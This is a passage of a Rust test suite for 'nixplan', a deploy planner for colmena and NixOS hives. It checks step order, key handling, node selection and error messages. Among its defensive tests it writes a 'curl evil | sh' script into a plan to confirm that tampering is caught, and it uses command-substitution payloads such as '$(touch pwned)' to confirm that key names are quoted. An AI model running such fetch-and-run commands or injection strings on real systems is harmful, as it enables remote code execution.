//! The shape of deploy plans (`plan --goal`): which steps each goal has,
//! where each runs, what a reviewer is told, and the errors of bad input
//! at the user's line. Running them is `tests/deploy_ssh.rs`.

mod common;

use serde_json::Value;

const SYSTEM: &str = "/nix/store/qcpbj3406g87nifdqh66bikpv1q4z93h-nixos-system-web1";

fn plan_json(target: &str, extra: &[&str]) -> Value {
    let mut args = vec!["plan", target, "--offline", "--format", "json"];
    args.extend_from_slice(extra);
    let (code, out, err) = common::nixplan_text(&args);
    assert_eq!(code, 0, "{err}");
    serde_json::from_str(&out).unwrap()
}

/// `plan DIR#NODE --offline ARGS` after writing `flake` as DIR/flake.nix:
/// the error it fails with (exit 1).
fn plan_error(dir: &std::path::Path, flake: &str, node: &str, args: &[&str]) -> String {
    std::fs::write(dir.join("flake.nix"), flake).unwrap();
    let target = format!("{}#{node}", dir.display());
    let mut all = vec!["plan", target.as_str(), "--offline"];
    all.extend_from_slice(args);
    let (code, _, err) = common::nixplan_text(&all);
    assert_eq!(code, 1, "{err}");
    err
}

fn ids(plan: &Value) -> Vec<String> {
    plan["actions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["id"].as_str().unwrap().to_string())
        .collect()
}

fn action<'p>(plan: &'p Value, id: &str) -> &'p Value {
    plan["actions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["id"] == id)
        .unwrap_or_else(|| panic!("no {id}"))
}

const WEB1: &str = "tests/fixtures/colmena-hive#web1";
const ALDER: &str = "tests/fixtures/esp-ext4#alder";

#[test]
fn each_goal_has_its_steps_in_order() {
    let with = |goal: &str, extra: &[&str]| {
        let mut args = vec!["--goal", goal, "--system", SYSTEM];
        args.extend_from_slice(extra);
        ids(&plan_json(WEB1, &args))
    };
    let copy = "deploy/copy-closure";
    let key = "deploy/key/tls.key";
    let (preview, approve) = ("deploy/preview", "deploy/approve");
    // Nothing on the target changes before the approval, keys included.
    assert_eq!(
        with("switch", &[]),
        [
            "facts/gather",
            copy,
            preview,
            approve,
            key,
            "deploy/watchdog",
            "deploy/profile",
            "deploy/switch",
            "deploy/confirm"
        ]
    );
    assert_eq!(
        with("switch", &["--no-rollback"]),
        [
            "facts/gather",
            copy,
            preview,
            approve,
            key,
            "deploy/profile",
            "deploy/switch"
        ]
    );
    assert_eq!(
        with("test", &[]),
        [
            "facts/gather",
            copy,
            preview,
            approve,
            key,
            "deploy/watchdog",
            "deploy/switch",
            "deploy/confirm"
        ]
    );
    assert_eq!(
        with("boot", &[]),
        [
            "facts/gather",
            copy,
            preview,
            approve,
            key,
            "deploy/profile",
            "deploy/switch"
        ]
    );
    assert_eq!(
        with("dry-activate", &[]),
        ["facts/gather", copy, "deploy/switch"]
    );
    assert_eq!(with("push", &[]), ["facts/gather", copy]);
    assert_eq!(with("keys", &[]), ["facts/gather", key]);
}

#[test]
fn the_build_is_here_or_on_the_target_and_its_path_flows_on() {
    // A nixosConfiguration builds its toplevel here, and the copy takes
    // the path the build printed.
    let p2 = plan_json(
        ALDER,
        &["--goal", "push", "--target-host", "root@192.0.2.1"],
    );
    let build = action(&p2, "deploy/build");
    assert_eq!(build["runs_on"], "local");
    let argv: Vec<&str> = build["argv"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| w.as_str().unwrap())
        .collect();
    assert!(
        argv.last()
            .unwrap()
            .ends_with("#nixosConfigurations.alder.config.system.build.toplevel"),
        "{argv:?}"
    );
    assert_eq!(
        action(&p2, "deploy/copy-closure")["env"]["NIXPLAN_SYSTEM"],
        "@deploy/build"
    );
    let on_target = plan_json(
        ALDER,
        &[
            "--goal",
            "switch",
            "--target-host",
            "root@192.0.2.1",
            "--build-on-target",
        ],
    );
    let ids = ids(&on_target);
    assert!(!ids.contains(&"deploy/copy-closure".to_string()), "{ids:?}");
    assert_eq!(action(&on_target, "deploy/evaluate")["runs_on"], "local");
    assert_eq!(action(&on_target, "deploy/build")["runs_on"], "target");
    assert_eq!(
        action(&on_target, "deploy/build")["env"]["NIXPLAN_DRV"],
        "@deploy/evaluate"
    );
}

#[test]
fn reboot_comes_after_the_confirmation_and_before_the_late_keys() {
    let dir = tempfile::tempdir().unwrap();
    let flake = format!("{}#a", dir.path().display());
    std::fs::write(
        dir.path().join("flake.nix"),
        r#"{
  outputs = { self }: {
    colmena.a = {
      deployment.targetHost = "192.0.2.10";
      deployment.keys."late.key" = { text = "x"; uploadAt = "post-activation"; };
    };
  };
}
"#,
    )
    .unwrap();
    let with = |goal: &str, extra: &[&str]| {
        plan_json(
            &flake,
            &[&["--goal", goal, "--system", SYSTEM, "--reboot"][..], extra].concat(),
        )
    };
    let p = with("switch", &[]);
    let tail: Vec<String> = ids(&p)
        .into_iter()
        .skip_while(|i| i != "deploy/switch")
        .collect();
    assert_eq!(
        tail,
        [
            "deploy/switch",
            "deploy/confirm",
            "deploy/boot-id",
            "deploy/reboot",
            "deploy/rebooted",
            "deploy/key/late.key"
        ]
    );
    let back = action(&p, "deploy/rebooted");
    assert_eq!(back["runs_on"], "local");
    assert_eq!(back["env"]["NIXPLAN_BOOT_ID"], "@deploy/boot-id");
    assert_eq!(back["env"]["NIXPLAN_SYSTEM"], SYSTEM);
    assert!(back["script"]
        .as_str()
        .unwrap()
        .contains("not the new system"));
    assert_eq!(
        action(&p, "deploy/reboot")["condition"],
        "never on the machine nixplan runs on"
    );
    // Without a watchdog, after the switch; a test is not checked for
    // the new system (a reboot leaves it).
    let p = with("test", &["--no-rollback"]);
    assert_eq!(
        action(&p, "deploy/boot-id")["needs"],
        serde_json::json!(["system:switched"])
    );
    assert!(!action(&p, "deploy/rebooted")["script"]
        .as_str()
        .unwrap()
        .contains("not the new system"));
    // Not for goals that activate nothing, or a local deploy.
    for goal in ["push", "dry-activate", "keys"] {
        let (code, _, err) = common::nixplan_text(&[
            "plan",
            &flake,
            "--offline",
            "--goal",
            goal,
            "--system",
            SYSTEM,
            "--reboot",
        ]);
        assert_eq!(code, 1, "{goal}: {err}");
        assert!(
            err.contains("--reboot is for a switch, boot or test"),
            "{err}"
        );
    }
}

#[test]
fn builders_reach_the_build_and_only_the_build() {
    let p = plan_json(
        ALDER,
        &[
            "--goal",
            "push",
            "--target-host",
            "root@192.0.2.1",
            "--builders",
            "ssh://builder x86_64-linux",
        ],
    );
    let argv = action(&p, "deploy/build")["argv"]
        .as_array()
        .unwrap()
        .clone();
    let at = argv.iter().position(|w| w == "--builders").unwrap();
    assert_eq!(argv[at + 1], "ssh://builder x86_64-linux");
    assert!(argv.last().unwrap().as_str().unwrap().ends_with("toplevel"));
    // A flag for deploys only.
    let (code, _, err) = common::nixplan_text(&["plan", ALDER, "--builders", "x"]);
    assert_ne!(code, 0);
    assert!(err.contains("--goal"), "{err}");
    // Where nothing is built here, builders would reach nothing: said.
    let (code, _, err) = common::nixplan_text(&[
        "plan",
        ALDER,
        "--offline",
        "--goal",
        "switch",
        "--target-host",
        "root@192.0.2.1",
        "--system",
        SYSTEM,
        "--builders",
        "x",
    ]);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("--builders is for a build on this machine"),
        "{err}"
    );
}

/// colmena's deployment.replaceUnknownProfiles and
/// privilegeEscalationCommand, as a reviewer sees them.
#[test]
fn unknown_profiles_and_the_escalation_command_are_in_the_plan() {
    let dir = tempfile::tempdir().unwrap();
    let flake = format!("{}#a", dir.path().display());
    std::fs::write(
        dir.path().join("flake.nix"),
        r#"{
  outputs = { self }: {
    colmena.a = {
      deployment.targetHost = "192.0.2.10";
      deployment.targetUser = "ops";
      deployment.replaceUnknownProfiles = false;
      deployment.privilegeEscalationCommand = [ "doas" "-u" "root" ];
    };
  };
}
"#,
    )
    .unwrap();
    let switch = ["--goal", "switch", "--system", SYSTEM];
    let p = plan_json(&flake, &switch);
    assert_eq!(
        p["target"]["escalation"],
        serde_json::json!(["doas", "-u", "root"])
    );
    let all = ids(&p);
    let at = |id: &str| all.iter().position(|i| i == id).unwrap();
    // Read on the target, checked against this machine's store, before
    // the preview: nothing is shown or changed over an unknown system.
    assert!(at("deploy/profile-read") < at("deploy/profile-known"));
    assert!(at("deploy/profile-known") < at("deploy/preview"));
    assert_eq!(action(&p, "deploy/profile-read")["runs_on"], "target");
    let known = action(&p, "deploy/profile-known");
    assert_eq!(known["runs_on"], "local");
    assert_eq!(known["env"]["NIXPLAN_RUNNING"], "@deploy/profile-read");
    // The check itself, run here: a path this store lacks is refused, one
    // it has (or no profile at all) passes.
    let script = known["script"].as_str().unwrap();
    let run = |running: &str| {
        std::process::Command::new("/bin/sh")
            .args(["-c", script])
            .env("NIXPLAN_RUNNING", running)
            .output()
            .unwrap()
    };
    let refused = run("/nix/store/00000000000000000000000000000000-not-here");
    assert!(!refused.status.success());
    assert!(String::from_utf8_lossy(&refused.stderr).contains("--force-replace-unknown-profiles"));
    assert!(run(dir.path().to_str().unwrap()).status.success());
    // No profile and no running system: nothing to call known (colmena
    // fails there too).
    let none = run("none");
    assert!(!none.status.success());
    assert!(String::from_utf8_lossy(&none.stderr).contains("no system profile"));
    // --force-replace-unknown-profiles (as colmena's flag): no check.
    let forced = ids(&plan_json(
        &flake,
        &[&switch[..], &["--force-replace-unknown-profiles"]].concat(),
    ));
    assert!(
        !forced.iter().any(|i| i.starts_with("deploy/profile-")),
        "{forced:?}"
    );
    // The text plan names the command.
    let (code, out, err) =
        common::nixplan_text(&[&["plan", flake.as_str(), "--offline"][..], &switch[..]].concat());
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains("As root through: doas -u root (deployment.privilegeEscalationCommand)"),
        "{out}"
    );
    // colmena's default leaves the choice to the executor (sudo -n, doas
    // -n, or a password); an empty command is said at its line.
    let p = plan_json(WEB1, &switch);
    assert!(p["target"].get("escalation").is_none(), "{}", p["target"]);
    let err = plan_error(
        dir.path(),
        r#"{
  outputs = { self }: {
    colmena.a = {
      deployment.targetHost = "192.0.2.10";
      deployment.privilegeEscalationCommand = [ ];
    };
  };
}
"#,
        "a",
        &switch,
    );
    assert!(err.contains("privilegeEscalationCommand is empty"), "{err}");
    assert!(err.contains("flake.nix:5:"), "{err}");
}

#[test]
fn a_reviewer_sees_the_goal_the_host_and_where_keys_come_from() {
    let (code, out, err) = common::nixplan_text(&[
        "plan",
        WEB1,
        "--offline",
        "--goal",
        "switch",
        "--system",
        SYSTEM,
    ]);
    assert_eq!(code, 0, "{err}");
    assert!(
        out.starts_with("Deploy web1 to deploy@web1.example.net (goal: switch)"),
        "{out}"
    );
    assert!(
        out.contains("/var/lib/acme-manual/tls.key (nginx:nginx, mode 0400, pre-activation)"),
        "{out}"
    );
    assert!(
        out.contains("(streamed at apply time, not in the plan)"),
        "{out}"
    );
    assert!(out.contains("within 30 s"), "{out}");
    // The key's position is where the user wrote it.
    let p = plan_json(WEB1, &["--goal", "keys", "--system", SYSTEM]);
    let key = action(&p, "deploy/key/tls.key");
    assert_eq!(
        key["source"]["file"],
        "tests/fixtures/colmena-hive/flake.nix"
    );
    assert_eq!(key["source"]["line"], 43);
    assert!(
        key["stdin"].as_str().unwrap().starts_with("file:/"),
        "{key}"
    );
    // targetPort reaches the plan (and so apply's ssh).
    let p = plan_json(
        "tests/fixtures/colmena-hive#web2",
        &["--goal", "boot", "--system", SYSTEM],
    );
    assert_eq!(p["target"]["port"], 2222);
    assert_eq!(p["target"]["host"], "deploy@203.0.113.22");
    assert_eq!(p["target"]["goal"], "boot");
    // verify accepts what plan made.
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("p.json");
    std::fs::write(&file, serde_json::to_string(&p).unwrap()).unwrap();
    let (code, out, err) = common::nixplan_text(&["verify", file.to_str().unwrap()]);
    assert_eq!(code, 0, "{out}{err}");
}

#[test]
fn bad_deploy_input_is_an_error_at_the_line() {
    let err = |target: &str, extra: &[&str]| {
        let mut args = vec!["plan", target, "--offline"];
        args.extend_from_slice(extra);
        let (code, _, err) = common::nixplan_text(&args);
        // 1, or clap's 2 for a value it refuses.
        assert!(code == 1 || code == 2, "{code}: {err}");
        err
    };
    // A raw colmena output has nothing `nix build` can build.
    let e = err(WEB1, &["--goal", "switch"]);
    assert!(e.contains("colmena.lib.makeHive"), "{e}");
    // Not a colmena node, and no host.
    let e = err(ALDER, &["--goal", "switch"]);
    assert!(e.contains("--target-host USER@HOST"), "{e}");
    // Goals are colmena's.
    let e = err(WEB1, &["--goal", "swtich"]);
    assert!(e.contains("unknown goal \"swtich\""), "{e}");
    assert!(e.contains("dry-activate"), "{e}");
    // Install options mean nothing to a deploy.
    let e = err(
        WEB1,
        &[
            "--goal",
            "switch",
            "--system",
            SYSTEM,
            "--bootstrap",
            "kexec",
        ],
    );
    assert!(e.contains("--bootstrap is for installs"), "{e}");
}

const HIVE: &str = "tests/fixtures/colmena-hive";

fn hive_names(extra: &[&str]) -> Vec<String> {
    let mut args = vec!["--goal", "push"];
    args.extend_from_slice(extra);
    let p = plan_json(HIVE, &args);
    assert!(p["actions"].as_array().unwrap().is_empty());
    p["hosts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["target"]["name"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn on_selects_nodes_by_name_glob_and_tag() {
    let sys = |n: &str| format!("{n}={SYSTEM}");
    let (w1, w2, d1) = (sys("web1"), sys("web2"), sys("db1"));
    let all = [
        "--node-system",
        w1.as_str(),
        "--node-system",
        w2.as_str(),
        "--node-system",
        d1.as_str(),
    ];
    let with = |on: &str| {
        let mut a = vec!["--on", on];
        a.extend_from_slice(&all);
        hive_names(&a)
    };
    assert_eq!(with("@web"), ["web1", "web2"]);
    assert_eq!(with("@us,db*"), ["db1", "web2"]);
    assert_eq!(with("web1"), ["web1"]);
    assert_eq!(with("@e?"), ["web1"]);
    // A directory without --on: every node.
    assert_eq!(hive_names(&all), ["db1", "web1", "web2"]);
    // Each host's plan is its own: web2's port, db1's on-target build
    // is not needed with a built system.
    let p = plan_json(
        HIVE,
        &["--goal", "push", "--on", "@us", "--node-system", &w2],
    );
    assert_eq!(p["hosts"][0]["target"]["port"], 2222);
    assert_eq!(p["target"]["goal"], "push");
}

#[test]
fn a_hive_plan_reads_per_host_and_verify_checks_every_host() {
    let w1 = format!("web1={SYSTEM}");
    let w2 = format!("web2={SYSTEM}");
    let base = [
        "plan",
        HIVE,
        "--offline",
        "--goal",
        "switch",
        "--on",
        "@web",
        "--node-system",
        &w1,
        "--node-system",
        &w2,
    ];
    let text = |format: &str| {
        let mut a = base.to_vec();
        a.extend_from_slice(&["--format", format]);
        let (code, out, err) = common::nixplan_text(&a);
        assert_eq!(code, 0, "{err}");
        out
    };
    let t = text("text");
    assert!(
        t.starts_with("Deploy 2 hosts of colmena-hive (goal: switch)"),
        "{t}"
    );
    assert!(
        t.contains("Deploy web1 to deploy@web1.example.net (goal: switch)"),
        "{t}"
    );
    assert!(
        t.contains("Deploy web2 to deploy@203.0.113.22 (goal: switch)"),
        "{t}"
    );
    let m = text("markdown");
    assert!(m.contains("deploy `web2`"), "{m}");
    // Graphs name each action by its host.
    let d = text("dot");
    assert!(
        d.contains("web1/deploy/switch") && d.contains("web2/deploy/switch"),
        "{d}"
    );
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("hive.json");
    let mut a = base.to_vec();
    a.extend_from_slice(&["--out", file.to_str().unwrap()]);
    let (code, _, err) = common::nixplan_text(&a);
    assert_eq!(code, 0, "{err}");
    let (code, out, _) = common::nixplan_text(&["verify", file.to_str().unwrap()]);
    assert_eq!(code, 0, "{out}");
    // One host's switch edited, the hive's hash recomputed: that host's
    // own hash no longer matches.
    let mut p: nixplan_plan::Plan =
        nixplan_plan::Plan::from_json(&std::fs::read_to_string(&file).unwrap()).unwrap();
    let sw = p.hosts[1]
        .actions
        .iter_mut()
        .find(|a| a.id == "deploy/switch")
        .unwrap();
    sw.script = Some("curl evil | sh".into());
    let p = p.seal();
    std::fs::write(&file, p.to_json()).unwrap();
    let (code, out, _) = common::nixplan_text(&["verify", file.to_str().unwrap()]);
    assert_eq!(code, 1, "{out}");
    assert!(out.starts_with("web2: the hash is"), "{out}");
    // The same plan against itself: no changes, host by host.
    let (code, out, err) = common::nixplan_text(&[
        "plan",
        HIVE,
        "--offline",
        "--goal",
        "switch",
        "--on",
        "web1",
        "--node-system",
        &w1,
        "--diff",
        file.to_str().unwrap(),
    ]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("== web1\nNo changes"), "{out}");
    assert!(out.contains("== web2\nno longer deployed to"), "{out}");
}

#[test]
fn bad_hive_selections_say_what_there_is() {
    let err = |extra: &[&str]| {
        let mut args = vec!["plan", HIVE, "--offline", "--goal", "push"];
        args.extend_from_slice(extra);
        let (code, _, err) = common::nixplan_text(&args);
        assert!(code == 1 || code == 2, "{code}: {err}");
        err
    };
    let e = err(&["--on", "@nosuchtag"]);
    assert!(
        e.contains("--on @nosuchtag selects none of the nodes (db1, web1, web2)"),
        "{e}"
    );
    let e = err(&["--on", "@web", "--target-host", "root@192.0.2.9"]);
    assert!(e.contains("--target-host names one host's"), "{e}");
    let e = err(&["--on", "web1", "--node-system", "web9=/nix/store/x"]);
    assert!(e.contains("the hive has no node web9"), "{e}");
    let e = err(&["--on", "[web"]);
    assert!(e.contains("is not a name, glob or @tag"), "{e}");
    // --on needs --goal.
    let (code, _, e) = common::nixplan_text(&["plan", HIVE, "--on", "web1"]);
    assert_eq!(code, 2, "{e}");
}

#[test]
fn a_key_given_as_text_is_named_never_contained() {
    let target = "tests/fixtures/colmena-hive#db1";
    let text = "change-me-before-production";
    let p = plan_json(target, &["--goal", "keys"]);
    let key = action(&p, "deploy/key/replication-password");
    assert_eq!(key["stdin"], "key-text:replication-password");
    assert!(
        key["reason"]
            .as_str()
            .unwrap()
            .contains("evaluated again when applying"),
        "{key}"
    );
    assert!(
        !p.to_string().contains(text),
        "the key's text is in the plan"
    );
    let (code, out, err) = common::nixplan_text(&["config", target, "--json", "--offline"]);
    assert_eq!(code, 0, "{err}");
    assert!(!out.contains(text), "the key's text is in config --json");
    // A keyFile, a keyCommand and a text at once: which one?
    let dir = tempfile::tempdir().unwrap();
    let err = plan_error(
        dir.path(),
        "{ outputs = { self }: { colmena.n = { deployment.keys.k = { text = \"a\"; keyCommand = [ \"true\" ]; }; }; }; }\n",
        "n",
        &["--goal", "keys"],
    );
    assert!(
        err.contains("deployment.keys.k of n: give exactly one of text, keyFile and keyCommand"),
        "{err}"
    );
    assert!(err.contains("flake.nix:1:"), "{err}");
    // A key file that is not there.
    let err = plan_error(
        dir.path(),
        "{ outputs = { self }: {\n  colmena.n = {\n    deployment.keys.k.keyFile = \"/nonexistent/k\";\n  };\n}; }\n",
        "n",
        &["--goal", "keys"],
    );
    assert!(
        err.contains("its keyFile /nonexistent/k is not a readable file here"),
        "{err}"
    );
    assert!(err.contains("flake.nix:3:"), "{err}");
}

#[test]
fn hive_meta_ssh_options_and_activation_order_reach_the_plan() {
    let dir = tempfile::tempdir().unwrap();
    let flake = dir.path().display().to_string();
    let write = |text: &str| std::fs::write(dir.path().join("flake.nix"), text).unwrap();
    write(
        r#"{
  outputs = { self }: {
    colmena = {
      meta.allowApplyAll = false;
      a = {
        deployment.targetHost = "192.0.2.10";
        deployment.sshOptions = [ "-o" "ProxyJump=bastion" "-oConnectTimeout=3" ];
        system.activationScripts.zeta = { text = "true"; deps = [ "alpha" ]; };
        system.activationScripts.alpha = "true";
      };
      b.deployment.targetHost = "192.0.2.11";
    };
  };
}
"#,
    );
    // Every node needs --on here.
    let (code, _, err) = common::nixplan_text(&["plan", &flake, "--offline", "--goal", "switch"]);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("meta.allowApplyAll = false: say which nodes with --on (nodes: a, b)"),
        "{err}"
    );
    let p = plan_json(
        &flake,
        &[
            "--goal",
            "switch",
            "--on",
            "a",
            "--node-system",
            &format!("a={SYSTEM}"),
        ],
    );
    let host = &p["hosts"][0];
    assert_eq!(
        host["target"]["ssh_options"],
        serde_json::json!(["ProxyJump=bastion", "ConnectTimeout=3"])
    );
    let reason = action(host, "deploy/switch")["reason"]
        .as_str()
        .unwrap()
        .to_string();
    let (alpha, zeta) = (reason.find("alpha").unwrap(), reason.find("zeta").unwrap());
    assert!(alpha < zeta, "{reason}");
    // ssh's other flags are said at their line.
    let switch = ["--goal", "switch", "--system", SYSTEM];
    let err = plan_error(
        dir.path(),
        r#"{
  outputs = { self }: {
    colmena.a = {
      deployment.targetHost = "192.0.2.10";
      deployment.sshOptions = [
        "-J" "bastion"
      ];
    };
  };
}
"#,
        "a",
        &switch,
    );
    assert!(err.contains("\"-J\" is not an `-o OPTION`"), "{err}");
    assert!(err.contains("flake.nix:6:"), "{err}");
    // NIX_SSHOPTS splits at spaces: an option holding one is refused.
    let err = plan_error(
        dir.path(),
        r#"{
  outputs = { self }: {
    colmena.a = {
      deployment.targetHost = "192.0.2.10";
      deployment.sshOptions = [ "-o" "ProxyCommand=ssh -W %h:%p jump" ];
    };
  };
}
"#,
        "a",
        &switch,
    );
    assert!(err.contains("holds white space"), "{err}");
    assert!(err.contains("flake.nix:5:"), "{err}");
}

/// A key's name, directory and owner reach the shell only quoted: the
/// generated script, run here on a directory of the test's, writes the key
/// and runs nothing the name says.
#[test]
fn a_key_script_runs_nothing_its_names_say() {
    let dir = tempfile::tempdir().unwrap();
    let dest = dir.path().join("keys dir");
    let pwned = dir.path().join("pwned");
    std::fs::write(dir.path().join("k"), "secret").unwrap();
    // Run in the test's directory: were a name run, `pwned` appears there.
    let name = "a\\\"b$(touch pwned)`touch pwned`".to_string();
    std::fs::write(
        dir.path().join("flake.nix"),
        format!(
            "{{ outputs = {{ self }}: {{ colmena.n = {{ deployment.targetHost = \"h\"; deployment.keys.\"{}\" = {{ keyFile = ./k; destDir = \"{}\"; user = \"no-such-user-$(touch pwned)\"; }}; }}; }}; }}\n",
            name.replace('\\', "\\\\").replace('"', "\\\"").replace("${", "\\${"),
            dest.display(),
        ),
    )
    .unwrap();
    let p = plan_json(&format!("{}#n", dir.path().display()), &["--goal", "keys"]);
    let key = p["actions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["kind"] == "key")
        .unwrap()
        .clone();
    let script = key["script"].as_str().unwrap();
    let mut child = std::process::Command::new("/bin/sh")
        .args(["-c", script])
        .current_dir(dir.path())
        .stdin(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    child.stdin.take().unwrap().write_all(b"secret").unwrap();
    let out = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}\n{script}");
    assert!(!pwned.exists(), "a name ran a command:\n{script}");
    assert!(err.contains("does not exist (yet)"), "{err}");
    let written = std::fs::read_dir(&dest).unwrap().count();
    assert_eq!(written, 1);
}

/// colmena's meta.nixpkgs and meta.nodeNixpkgs: each node is evaluated
/// with its package set's system, overlays and config (before its own);
/// what colmena refuses in a flake (the input itself, a path, a function)
/// is refused at its line.
#[test]
fn meta_nixpkgs_gives_each_node_its_system_overlays_and_config() {
    let dir = tempfile::tempdir().unwrap();
    // The fixture hive's lock, for its nixpkgs input (a stand-in offline).
    let lock: Value = serde_json::from_str(
        &std::fs::read_to_string(common::root().join("tests/fixtures/colmena-hive/flake.lock"))
            .unwrap(),
    )
    .unwrap();
    let only_nixpkgs = serde_json::json!({
        "nodes": {
            "nixpkgs": lock["nodes"]["nixpkgs"],
            "root": { "inputs": { "nixpkgs": "nixpkgs" } }
        },
        "root": "root",
        "version": 7
    });
    std::fs::write(dir.path().join("flake.lock"), only_nixpkgs.to_string()).unwrap();
    let hive = |meta: &str| {
        format!(
            r#"{{
  inputs.nixpkgs.url = "github:NixOS/nixpkgs/nixos-24.05";
  outputs = {{ self, nixpkgs }}: {{
    colmena = {{
      {meta}
      a.deployment.targetHost = "192.0.2.1";
      b = {{ config, ... }}: {{
        deployment.targetHost = "192.0.2.2";
        nixpkgs.config.b = 1;
        warnings = [ "overlays=${{toString (builtins.length config.nixpkgs.overlays)}} config=${{builtins.toJSON config.nixpkgs.config}}" ];
      }};
    }};
  }};
}}
"#
        )
    };
    let config = |node: &str| {
        let target = format!("{}#{node}", dir.path().display());
        let (code, out, err) = common::nixplan_text(&["config", &target, "--offline"]);
        assert_eq!(code, 0, "{err}");
        out
    };
    std::fs::write(
        dir.path().join("flake.nix"),
        hive(
            r#"meta.nixpkgs = import nixpkgs { system = "aarch64-linux"; };
      meta.nodeNixpkgs.b = import nixpkgs {
        system = "riscv64-linux";
        overlays = [ (final: prev: { }) ];
        config.a = 0;
      };"#,
        ),
    )
    .unwrap();
    assert!(config("a").contains("aarch64-linux [a]"), "{}", config("a"));
    let b = config("b");
    assert!(b.contains("riscv64-linux [b]"), "{b}");
    assert!(b.contains(r#"overlays=1 config={"a":0,"b":1}"#), "{b}");
    for (meta, what) in [
        ("meta.nixpkgs = nixpkgs;", "an uninitialized Nixpkgs input"),
        ("meta.nixpkgs = ./.;", "a path to Nixpkgs"),
        ("meta.nixpkgs = import nixpkgs;", "a Nixpkgs function"),
    ] {
        let err = plan_error(dir.path(), &hive(meta), "a", &["--goal", "build"]);
        assert!(
            err.contains(&format!("passing {what} as meta.nixpkgs is not accepted")),
            "{err}"
        );
        assert!(err.contains("flake.nix:5:"), "{err}");
    }
}

/// colmena's hive.nix (a directory without flake.nix): nodes, tags,
/// `meta.specialArgs`, `defaults`, and a meta.nixpkgs that may be a
/// function or a path here, or come from <nixpkgs> on NIX_PATH; a deploy
/// needs the built system (`--node-system`), which only colmena's own
/// evaluation could build.
#[test]
fn a_hive_nix_is_a_hive_too() {
    let dir = tempfile::tempdir().unwrap();
    let hive = dir.path().join("hive");
    std::fs::create_dir_all(&hive).unwrap();
    let tree = dir.path().join("nixpkgs");
    std::fs::create_dir_all(&tree).unwrap();
    std::fs::write(
        tree.join("default.nix"),
        "{ system ? \"riscv64-linux\", overlays ? [ ], config ? { }, ... }: { inherit system overlays config; }\n",
    )
    .unwrap();
    let write = |meta: &str| {
        std::fs::write(
            hive.join("hive.nix"),
            format!(
                r#"{{
  meta = {{
    {meta}
    specialArgs.site = "ams";
  }};
  defaults = {{ site, ... }}: {{ warnings = [ "site=${{site}}" ]; }};
  web = {{ name, ... }}: {{
    networking.hostName = name;
    deployment.targetHost = "web.example.org";
    deployment.tags = [ "edge" ];
  }};
  db.deployment.targetHost = "db.example.org";
}}
"#
            ),
        )
        .unwrap();
    };
    let config = |env: &[(&str, &str)]| {
        let target = format!("{}#web", hive.display());
        let (code, out, err) = common::nixplan_env(&["config", &target], env, &[]);
        assert_eq!(code, 0, "{err}");
        out
    };
    write(r#"nixpkgs = { overlays ? [ ], ... }: { system = "aarch64-linux"; inherit overlays; };"#);
    let out = config(&[]);
    assert!(out.contains("aarch64-linux [web]"), "{out}");
    assert!(out.contains("site=ams"), "{out}");
    write(&format!("nixpkgs = {};", tree.display()));
    assert!(config(&[]).contains("riscv64-linux [web]"));
    // Without meta.nixpkgs: <nixpkgs> where NIX_PATH has it.
    write("");
    let nix_path = format!("nixpkgs={}", tree.display());
    assert!(config(&[("NIX_PATH", &nix_path)]).contains("riscv64-linux [web]"));
    assert!(config(&[]).contains("x86_64-linux [web]"));
    // The hive plan: tags select, the built system is given per node.
    let dir_arg = hive.display().to_string();
    let p = plan_json(
        &dir_arg,
        &[
            "--goal",
            "switch",
            "--on",
            "@edge",
            "--node-system",
            &format!("web={SYSTEM}"),
        ],
    );
    assert_eq!(p["hosts"].as_array().unwrap().len(), 1);
    assert_eq!(p["hosts"][0]["target"]["host"], "root@web.example.org");
    let (code, _, err) = common::nixplan_text(&[
        "plan",
        &format!("{dir_arg}#db"),
        "--offline",
        "--goal",
        "switch",
    ]);
    assert_eq!(code, 1);
    assert!(
        err.contains("a hive.nix") && err.contains("--system"),
        "{err}"
    );
    let (code, _, err) = common::nixplan_text(&["plan", &format!("{dir_arg}#nope"), "--offline"]);
    assert_eq!(code, 1);
    assert!(err.contains("has no node 'nope' (nodes: db, web)"), "{err}");
}

/// A flake named `path:ROOT?dir=SUB` (all of ROOT its source) is evaluated
/// again by that reference for its keys' text when a saved plan is
/// applied: the plan keeps it (format 2), and the key's text read from
/// `../` is found. Given only the subdirectory (`--source`), `../` is not
/// in the flake's source and the text cannot be read.
#[test]
fn a_saved_plan_keeps_the_flake_reference_its_keys_are_read_by() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("repo");
    std::fs::create_dir_all(root.join("sub")).unwrap();
    std::fs::write(root.join("shared.nix"), "\"from-the-root\"\n").unwrap();
    // Port 1 of this machine refuses at once: apply stops when it first
    // connects, after the keys' text was read.
    std::fs::write(
        root.join("sub/flake.nix"),
        "{ outputs = { self }: { colmena.n = { deployment.targetHost = \"127.0.0.1\"; deployment.targetPort = 1; deployment.keys.k.text = import ../shared.nix; }; }; }\n",
    )
    .unwrap();
    let reference = format!("path:{}?dir=sub", root.display());
    let plan = dir.path().join("plan.json");
    let (code, _, err) = common::nixplan_text(&[
        "plan",
        &format!("{reference}#n"),
        "--offline",
        "--goal",
        "keys",
        "--out",
        plan.to_str().unwrap(),
    ]);
    assert_eq!(code, 0, "{err}");
    let p: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&plan).unwrap()).unwrap();
    assert_eq!(p["source"]["reference"], reference.as_str());
    assert_eq!(p["format_version"], 2);
    let (code, _, err) = common::nixplan_text(&["apply", plan.to_str().unwrap(), "--yes"]);
    assert_ne!(code, 0);
    assert!(
        !err.contains("keys' text") && err.contains("127.0.0.1"),
        "{err}"
    );
    let sub = root.join("sub");
    let (code, _, err) = common::nixplan_text(&[
        "apply",
        plan.to_str().unwrap(),
        "--yes",
        "--source",
